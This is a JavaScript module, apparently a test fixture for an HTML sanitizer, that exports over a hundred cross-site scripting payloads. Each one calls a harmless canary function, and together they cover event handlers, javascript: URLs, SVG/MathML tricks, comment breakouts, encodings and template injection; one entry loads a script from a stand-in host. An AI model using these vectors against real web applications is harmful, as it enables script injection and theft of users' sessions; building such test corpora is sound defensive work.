// What people and programs try in order to run a script on somebody else's page. Each would call `tripped()`.
// The kinds are those of OWASP's cheat sheet on filter evasion and of HTML's own parsing rules: elements, handlers, ways
// out of attributes, of elements whose content is text, of comments, addresses, other namespaces, odd bytes, templates.
const call = 'tripped()';
const bare = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script/x>${call}</script>`, `<script\n>${call}</script\n>`,
  `<script src="data:text/javascript,${call}"></script>`, `<script src=//example.com/x.js></script>`, `<script>${call}`, `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<script type=module>${call}</script>`, `<script nonce="">${call}</script>`, `<script async src=data:,${call}></script>`,
  `<img src=x onerror=${call}>`, `<img src=x onerror="${call}">`, `<IMG SRC=x ONERROR=${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x onerror\n=${call}>`,
  `<img src=data:, onload=${call} onerror=${call}>`, `<img src='x' onerror='${call}'>`, `<img srcset=x onerror=${call}>`, `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributename=x to=y>`, `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`, `<svg><title><script>${call}</script></title></svg>`, `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`, `<math><style><!--</style><img src=x onerror=${call}>-->`, `<math href="javascript:${call}">x</math>`,
  `<body onload=${call}>`, `<body onpageshow=${call}>`, `<body onfocus=${call}>`, `<body onhashchange=${call}>`, `<html onclick=${call}>`, `<frameset onload=${call}>`,
  `<iframe src="javascript:parent.${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`, `<object data=x onerror=${call}></object>`, `<embed src="javascript:${call}">`, `<embed src=data:text/html,<script>${call}</script>>`,
  `<video onloadstart=${call} src=x></video>`, `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}></audio>`, `<video poster=x onerror=${call} src=x>`,
  `<input onfocus=${call} autofocus>`, `<select onfocus=${call} autofocus></select>`, `<textarea onfocus=${call} autofocus></textarea>`, `<button onfocus=${call} autofocus>x</button>`,
  `<details open ontoggle=${call}>x</details>`, `<dialog open onfocus=${call} autofocus tabindex=0>x</dialog>`, `<marquee onstart=${call}>x</marquee>`, `<meter onclick=${call}>x</meter>`,
  `<div onanimationstart=${call} style="animation: x 1s">x</div>`, `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationend=${call}>x</b>`,
  `<b onpointerrawupdate=${call} onmouseover=${call}>x</b>`, `<b tabindex=0 autofocus onfocus=${call}>x</b>`, `<a href="javascript:${call}">x</a>`, `<a href=JaVaScRiPt:${call}>x</a>`,
  `<a href="java\tscript:${call}">x</a>`, `<a href="java&#10;script:${call}">x</a>`, `<a href="&#106;avascript:${call}">x</a>`, `<a href="\u0001javascript:${call}">x</a>`, `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<form action="javascript:${call}"><input type=submit></form>`, `<form><button formaction="javascript:${call}">x</button></form>`, `<isindex action="javascript:${call}" type=image>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`, `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`, `<link rel=import href="data:text/html,<script>${call}</script>">`, `<link rel=preload as=image href=x onerror=${call}>`,
  `<style>@import "javascript:${call}";</style>`, `<style onload=${call}></style>`, `<style>*{background:url("javascript:${call}")}</style>`, `<div style="width:expression(${call})">x</div>`, `<xss style="behavior:url(x.htc)" onclick=${call}>`,
  `<template><script>${call}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${call}></template>`, `<slot onslotchange=${call}><b>x</b></slot>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<plaintext><script>${call}</script>`, `<xmp><img src=x onerror=${call}></xmp>`, `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`, `<!--><script>${call}</script>`, `<!--[if gte IE 4]><script>${call}</script><![endif]-->`, `<!-- --!><img src=x onerror=${call}> -->`, `<! foo="><script>${call}</script>">`, `</ foo="><script>${call}</script>">`,
  `<b/onclick=${call}//>x`, `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>`, `<table background="javascript:${call}"></table>`, `<bgsound src="javascript:${call}">`, `<layer src=x onload=${call}>`,
];
const waysOut = [
  '"', "'", '">', "'>", '`', '" ', "' ", '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</p></details>', '--></style>', '*/}</style>', '</button>', '</a>', '</blockquote>', '</h1>', '</video>',
];
const inside = [`<img src=x onerror=${call}>`, `onfocus=${call} autofocus tabindex=0 x=`, `<script>${call}</script>`, `onanimationstart=${call} style=animation:x x=`];
const other = [
  `javascript:${call}`, `javascript://%0a${call}`, ` javascript:${call}`, `vbscript:${call}`, `data:text/html,<script>${call}</script>`, `{{${call}}}`, `{{{${call}}}}`, `{{#x}}<script>${call}</script>{{/x}}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`,
  `{{constructor.constructor('${call}')()}}`, `[[${call}]]`, `";${call};//`, `';${call};//`, `\\";${call};//`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `\\x3cscript\\x3e${call}`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`, `%3Cscript%3E${call}%3C/script%3E`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `＜script＞${call}＜/script＞`, `\u2028${call}\u2029`, `\u202e<script>${call}</script>`, `\ufeff<script>${call}</script>`, `<\u0130mg src=x onerror=${call}>`,
  `</script><script>${call}</script>`, `]]>${call}`, `*/${call}/*`, `expression(${call})`, `url(javascript:${call})`, `#fff;}</style><img src=x onerror=${call}>`, `x" srcdoc="<script>${call}</script>`, `<v onclick=${call}>x</v>`, `<c.x onmouseover=${call}>x</c>`,
];
export const payloads = [...bare, ...waysOut.flatMap((way) => inside.map((attack) => way + attack)), ...other];
